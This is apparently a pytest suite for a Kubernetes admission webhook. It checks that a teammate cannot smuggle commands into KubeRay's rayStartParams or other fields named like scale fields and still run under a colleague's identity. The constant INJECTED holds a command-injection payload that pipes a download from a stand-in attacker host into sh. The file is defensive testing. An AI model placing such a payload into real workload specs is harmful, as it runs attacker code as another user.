"""A teammate who keeps a teammate's identity by hiding a change in a field named like a scale field.

The attack: KubeRay writes the values of ``rayStartParams`` unquoted into the ``bash -c`` line that starts Ray in
each pod (ray-project/kuberay ``ray-operator/controllers/ray/common/pod.go``, the ``ray start`` command it builds;
v1.4.2 = 34ea80e0, the chart the platform pins). Bob updates Alice's RayCluster
with ``rayStartParams: {"suspend": "1; <command> #"}``; if the webhook ignores every key named ``suspend`` it
answers "kept", Bob deletes Alice's head pod and the rebuilt pod runs his command as Alice's UID with her home
mounted. Scale changes are ignored only at the exact paths each kind keeps them
(:attr:`~hyperpod_tenancy.k8s.workloads.WorkloadKindSpec.scale_paths`); every other change re-stamps the
workload with the updater's identity or is refused.

The generated test changes every leaf of the spec of each kind a team may write, and adds a key named like a
scale field to every object of it (labels, annotations, environment variables and ``rayStartParams``
included): each change must re-stamp, be refused, or be undone by the webhook's patch; a change at a scale path
keeps Alice's identity. Through the real webhook over TLS, configured as each fairness backend's platform
renders it.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from typing import Any

import platforms
import pytest
from webhook_server import (
    WebhookProcess,
    apply_patch,
    certificates,
    create_table,
    platform_webhook_config,
    review,
    serial_moto_server,
    sso_user,
    values_at,
    workload,
)

from hyperpod_tenancy.k8s import posix_identity, workloads
from hyperpod_tenancy.k8s.workloads import TeamAccess, WorkloadKindSpec

ALICE, BOB = "alice@example.com", "bob@example.com"
INJECTED = "1; curl -s https://attacker.example/x | sh #"
#: The names of the fields that scale or pause (the names a change hides behind).
SCALE_NAMES = ("replicas", "minReplicas", "maxReplicas", "suspend", "scaleStrategy")
KINDS = [
    (k, "inference" if k.team_access is TeamAccess.INFERENCE else "research")
    for k in workloads.kinds_for(inference=True)
]
BACKENDS = {"task-governance": platforms.reference_platform, "kueue": platforms.kueue_platform}

Path = tuple[str | int, ...]


@pytest.fixture(scope="module", params=list(BACKENDS))
def server(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[WebhookProcess]:
    platform = BACKENDS[request.param]()
    with serial_moto_server():
        directory = tmp_path_factory.mktemp("webhook")
        config = directory / "teams.json"
        config.write_text(json.dumps(platform_webhook_config(platform)))
        with WebhookProcess(certs=certificates(directory), table=create_table(), config_path=config) as p:
            yield p


def _decoy_env() -> list[dict[str, str]]:
    return [{"name": name, "value": "0"} for name in SCALE_NAMES]


def honest(kind: WorkloadKindSpec, team: str) -> dict[str, Any]:
    """An object of ``kind`` with every scale field its kind has, and keys of the same names in free-form maps."""
    obj = workload(kind, team)
    spec = obj.setdefault("spec", {})
    decoys = dict.fromkeys(SCALE_NAMES, "0")
    if not kind.pod_specs:  # the inference operator's kinds
        spec.update(
            modelName="llama",
            instanceType="ml.g5.12xlarge",
            replicas=1,
            worker={"image": "model-server:1", "environmentVariables": _decoy_env()},
        )
    for dotted in kind.pod_specs:
        if "." in dotted:
            parent = dotted.rpartition(".")[0]
            for template in values_at(obj, parent):
                template.setdefault("metadata", {})
                template["metadata"]["labels"] = {"app": "train", **decoys}
                template["metadata"]["annotations"] = {"team.example/owner": "alice", **decoys}
        for pod_spec in values_at(obj, dotted):
            for container in pod_spec["containers"]:
                container["env"] = _decoy_env()
    if kind.group == "kubeflow.org" or kind.kind == "HyperPodPyTorchJob":
        _training(spec, kind)
    if kind.kind in ("Deployment", "StatefulSet", "ReplicaSet"):
        spec["replicas"] = 2
    if kind.kind == "Job":
        spec["suspend"] = True
    if kind.group == "ray.io":
        _ray(spec, kind, decoys)
    return obj


def _training(spec: dict[str, Any], kind: WorkloadKindSpec) -> None:
    """Kubeflow's and the HyperPod training operator's run and elastic policies."""
    spec["runPolicy"] = {"suspend": False, "backoffLimit": 3}
    if kind.kind == "PyTorchJob":
        spec["elasticPolicy"] = {"minReplicas": 1, "maxReplicas": 2, "rdzvBackend": "c10d"}
    if kind.kind == "HyperPodPyTorchJob":  # hyp's elastic training (sagemaker-hyperpod 3.12 ElasticPolicy)
        spec["elasticPolicy"] = {"minReplicas": 1, "maxReplicas": 4, "replicaIncrementStep": 1}
        for replica in spec["replicaSpecs"]:
            replica["maxReplicas"] = 4


def _ray(spec: dict[str, Any], kind: WorkloadKindSpec, decoys: dict[str, str]) -> None:
    """KubeRay's scale fields and ``rayStartParams`` (a free-form map) with the decoy keys."""
    spec["suspend"] = False
    cluster = spec["rayClusterSpec"] if kind.kind == "RayJob" else spec
    cluster["headGroupSpec"]["rayStartParams"] = {"num-cpus": "0", **decoys}
    for group in cluster["workerGroupSpecs"]:
        group.update(
            rayStartParams={"num-gpus": "8", **decoys},
            minReplicas=1,
            maxReplicas=4,
            suspend=False,
            scaleStrategy={"workersToDelete": []},
        )
    if kind.kind == "RayJob":
        spec["entrypoint"] = "python train.py"


def _matches(path: Path, dotted: str) -> bool:
    """Whether ``path`` is at (or under) the table path ``dotted`` (``[]`` any index, ``{}`` any key)."""
    pattern: list[tuple[str, str]] = []
    for segment in dotted.split("."):
        pattern.append(("key", segment.removesuffix("[]").removesuffix("{}")))
        if segment.endswith("[]"):
            pattern.append(("index", ""))
        elif segment.endswith("{}"):
            pattern.append(("any", ""))
    if len(path) < len(pattern):
        return False
    for (how, name), seg in zip(pattern, path, strict=False):
        if (how == "key" and seg != name) or (how == "index" and not isinstance(seg, int)):
            return False
    return True


def _is_scale(kind: WorkloadKindSpec, path: Path) -> bool:
    return any(_matches(path, dotted) for dotted in kind.scale_paths)


def _leaves(node: Any, path: Path) -> Iterator[tuple[Path, Any]]:
    if isinstance(node, dict) and node:
        for k, v in node.items():
            yield from _leaves(v, (*path, k))
    elif isinstance(node, list) and node:
        for i, v in enumerate(node):
            yield from _leaves(v, (*path, i))
    else:
        yield path, node


def _objects(node: Any, path: Path) -> Iterator[tuple[Path, dict[str, Any]]]:
    if isinstance(node, dict):
        yield path, node
        for k, v in node.items():
            yield from _objects(v, (*path, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _objects(v, (*path, i))


def _changed(value: Any) -> Any:
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, str):
        return INJECTED
    return {"suspend": INJECTED} if isinstance(value, dict) else [INJECTED]


def _set(obj: dict[str, Any], path: Path, value: Any) -> None:
    node: Any = obj
    for seg in path[:-1]:
        node = node[seg]
    node[path[-1]] = value


def _created(server: WebhookProcess, kind: WorkloadKindSpec, team: str) -> dict[str, Any]:
    obj = honest(kind, team)
    response = server.client.mutate(review(obj, user=sso_user(ALICE, team)))
    assert response["allowed"], response
    return apply_patch(obj, response)


def _record(obj: dict[str, Any]) -> str:
    return str(obj["metadata"]["annotations"][posix_identity.POSIX_USER_ANNOTATION])


def _outcome(server: WebhookProcess, stored: dict[str, Any], changed: dict[str, Any], team: str) -> str:
    """``kept`` (Alice's identity on a changed object), ``restamped``, ``refused`` or ``undone``."""
    status, body = server.client.request(
        "POST",
        "/mutate",
        json.dumps(review(changed, user=sso_user(BOB, team), operation="UPDATE", old=stored)).encode(),
    )
    if status == 400:  # malformed (a key where the kind has a map of objects): refused
        return "refused"
    response = body["response"]
    if not response["allowed"]:
        return "refused"
    result = apply_patch(changed, response)
    if _record(result) == f"sso:{BOB}":
        return "restamped"
    return "undone" if result == stored else "kept"


@pytest.mark.parametrize(("kind", "team"), KINDS, ids=[k.kind for k, _ in KINDS])
def test_every_change_but_a_scale_field_restamps_or_is_refused(
    server: WebhookProcess, kind: WorkloadKindSpec, team: str
) -> None:
    stored = _created(server, kind, team)
    kept: list[str] = []
    changes: list[tuple[Path, Any]] = [(p, _changed(v)) for p, v in _leaves(stored["spec"], ("spec",))]
    changes += [
        ((*p, name), INJECTED)
        for p, node in _objects(stored["spec"], ("spec",))
        for name in SCALE_NAMES
        if name not in node
    ]
    scale_seen = 0
    for path, value in changes:
        changed = copy.deepcopy(stored)
        _set(changed, path, value)
        outcome = _outcome(server, stored, changed, team)
        if _is_scale(kind, path):
            scale_seen += 1
            assert outcome == "kept", (path, outcome)
        elif outcome == "kept":
            kept.append("/".join(map(str, path)))
    assert not kept, f"{kind.kind}: changes that kept alice's identity: {kept}"
    assert scale_seen >= len(kind.scale_paths) or not kind.scale_paths, "every scale path was exercised"


@pytest.mark.parametrize(
    ("kind_name", "where"),
    [
        ("RayCluster", ("spec", "headGroupSpec", "rayStartParams")),
        ("RayCluster", ("spec", "workerGroupSpecs", 0, "rayStartParams")),
        ("RayJob", ("spec", "rayClusterSpec", "headGroupSpec", "rayStartParams")),
        ("RayJob", ("spec", "submitterPodTemplate", "metadata", "annotations")),
    ],
    ids=["raycluster-head", "raycluster-worker", "rayjob-head", "rayjob-submitter-metadata"],
)
def test_a_command_in_a_free_form_suspend_key_runs_as_the_one_who_wrote_it(
    server: WebhookProcess, kind_name: str, where: Path
) -> None:
    (kind,) = [k for k in workloads.WORKLOAD_KINDS if k.kind == kind_name]
    stored = _created(server, kind, "research")
    changed = copy.deepcopy(stored)
    node: Any = changed
    for seg in where:
        node = node[seg]
    node["suspend"] = INJECTED
    assert _outcome(server, stored, changed, "research") == "restamped"


def test_scaling_a_teammates_ray_workers_keeps_their_identity(server: WebhookProcess) -> None:
    (kind,) = [k for k in workloads.WORKLOAD_KINDS if k.kind == "RayCluster"]
    stored = _created(server, kind, "research")
    scaled = copy.deepcopy(stored)
    group = scaled["spec"]["workerGroupSpecs"][0]
    group.update(replicas=6, minReplicas=2, maxReplicas=8, scaleStrategy={"workersToDelete": ["ray-w-1"]})
    scaled["spec"]["suspend"] = True
    response = server.client.mutate(review(scaled, user=sso_user(BOB), operation="UPDATE", old=stored))
    assert response["allowed"] and "patch" not in response, response


def test_the_scale_paths_name_only_scale_fields() -> None:
    """No scale path ends in a free-form map or names a field that is not a count, a bound or a pause."""
    for kind in workloads.WORKLOAD_KINDS:
        for dotted in kind.scale_paths:
            assert dotted.startswith("spec."), dotted
            assert dotted.rpartition(".")[2] in SCALE_NAMES, (kind.kind, dotted)
            assert not any(s in dotted for s in ("rayStartParams", "metadata", "env", "template")), dotted
